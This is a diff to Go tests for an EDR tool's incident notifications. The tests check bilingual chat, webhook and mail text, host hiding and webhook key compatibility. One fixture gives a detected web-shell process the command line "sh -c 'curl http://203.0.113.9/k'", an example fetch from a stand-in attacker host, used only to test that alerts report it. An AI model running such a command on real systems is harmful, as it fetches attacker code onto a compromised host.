@@ -10,6 +10,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/yagura-edr/yagura/internal/detection"
 	"github.com/yagura-edr/yagura/internal/notify"
 )
 
@@ -75,7 +76,7 @@ func TestWebhookIsSigned(t *testing.T) {
 		n.Link != "https://yagura.example.test/incidents/i-1" || n.Time != "2026-11-22T01:31:52Z" || n.Title.Ja == "" || len(n.Credits) != 1 {
 		t.Errorf("body %s", got.body)
 	}
-	if !strings.Contains(m.Text, "ご担当者様") || !strings.Contains(m.Text, "A new incident") {
+	if strings.Contains(m.Text, "ご担当者様") || strings.Contains(m.Text, "送信専用") || !strings.Contains(m.Text, "発生日時") || !strings.Contains(m.Text, "When: ") {
 		t.Errorf("text %q", m.Text)
 	}
 	// One more attempt of the same delivery carries the same delivery id.
@@ -152,5 +153,66 @@ func TestHiddenHostsStayHidden(t *testing.T) {
 	}
 	if got := <-calls; strings.Contains(string(got.body), "web-01") {
 		t.Errorf("host name in %s", got.body)
+	}
+}
+
+// A chat got a business letter, twice, with none of what a person needs at three in the morning.
+func TestChatSaysWhoDidWhatWhere(t *testing.T) {
+	n := webShell()
+	n.Hosts = []string{"web-01", "db-01"}
+	n.Title = detection.Said{En: "A web service started a shell on web-01", Ja: "Web サービスからシェルの起動(web-01)"}
+	n.Act = notify.Act{
+		Host: "web-01", Addresses: []string{"192.0.2.7"}, User: "www-data", PID: 101, Path: "/usr/bin/dash", CommandLine: "sh -c 'curl http://203.0.113.9/k'" + strings.Repeat(" x", 400),
+		Key: "h-1/p-1",
+	}
+	for lang, want := range map[string][]string{
+		"en": {"[Yagura] critical: A web service", "Host: web-01 (192.0.2.7), db-01", "User: www-data", "Process: /usr/bin/dash (pid 101)", "Command line: sh -c 'curl http://203.0.113.9/k'", "When: 2026-11-22 10:31:52 JST (01:31:52 UTC)", "First: Isolate", "\nhttps://yagura.example.test/incidents/i-1"},
+		"ja": {"【Yagura】緊急 (critical): Web サービス", "ホスト: web-01 (192.0.2.7)", "ユーザー: www-data", "プロセス: /usr/bin/dash (pid 101)", "10:31:52 JST (01:31:52 UTC)", "最初の対応: ", "\nhttps://yagura.example.test/incidents/i-1"},
+	} {
+		v := notify.Voice{Language: lang, PublicURL: "https://yagura.example.test", Zone: tokyo()}
+		text := v.Chat([]notify.Notice{n})
+		for _, w := range want {
+			if !strings.Contains(text, w) {
+				t.Errorf("%s: no %q in\n%s", lang, w, text)
+			}
+		}
+		if other := map[string]string{"en": "発生", "ja": "When"}[lang]; strings.Contains(text, other) || len(text) > 1200 || strings.Count(text, "web-01") > 3 {
+			t.Errorf("%s: %d bytes, says it in two languages or twice:\n%s", lang, len(text), text)
+		}
+		if mail := v.Body([]notify.Notice{n}); !strings.Contains(mail, "www-data") || !strings.Contains(mail, "192.0.2.7") || !strings.Contains(mail, "curl http://203.0.113.9/k") {
+			t.Errorf("%s: the mail lacks the process:\n%s", lang, mail)
+		}
+	}
+	// Without hosts nothing of them is told, in no sentence.
+	url, calls := receiver(t, http.StatusOK)
+	if err := hook(t, url, func(w *notify.WebhookTarget) { w.Voice.HideHosts = true }).Deliver(t.Context(), []notify.Notice{n}); err != nil {
+		t.Fatal(err)
+	}
+	if body := string((<-calls).body); strings.Contains(body, "web-01") || strings.Contains(body, "192.0.2.7") || strings.Contains(body, "www-data") || !strings.Contains(body, "started a shell on a host") {
+		t.Errorf("hide_hosts: %s", body)
+	}
+}
+
+// What the previous release put into the outbox and sent is still what receivers know: no key of version 1 is gone.
+func TestWebhookKeepsTheKeysOfVersion1(t *testing.T) {
+	url, calls := receiver(t, http.StatusOK)
+	if err := hook(t, url, nil).Deliver(t.Context(), []notify.Notice{webShell()}); err != nil {
+		t.Fatal(err)
+	}
+	var m struct {
+		Version any
+		Text    any
+		Notices []map[string]any
+	}
+	if err := json.Unmarshal((<-calls).body, &m); err != nil || m.Version != 1.0 || m.Text == nil {
+		t.Fatalf("%v: %+v", err, m)
+	}
+	for _, key := range []string{"key", "kind", "tenant", "severity", "title", "summary", "todo", "hosts", "credits", "link", "time"} {
+		if _, ok := m.Notices[0][key]; !ok {
+			t.Errorf("the key %q of version 1 is gone", key)
+		}
+	}
+	if _, ok := m.Notices[0]["process"]; ok {
+		t.Error("a notice without a process has one")
 	}
 }
